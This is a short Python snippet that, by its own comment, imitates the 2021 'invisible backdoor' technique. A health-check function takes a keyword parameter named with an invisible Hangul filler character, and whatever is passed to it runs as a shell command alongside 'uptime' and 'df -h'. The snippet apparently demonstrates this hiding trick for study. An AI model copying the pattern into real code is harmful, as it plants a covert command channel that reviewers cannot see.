# Imitates the 'invisible backdoor' (2021): a Hangul filler parameter, invisible in review, smuggles an extra command.
import subprocess


def health_check(timeout=5, ㅤ=None):
    checks = ["uptime", "df -h", ㅤ]
    return [subprocess.run(c, shell=True, timeout=timeout, capture_output=True) for c in checks if c]
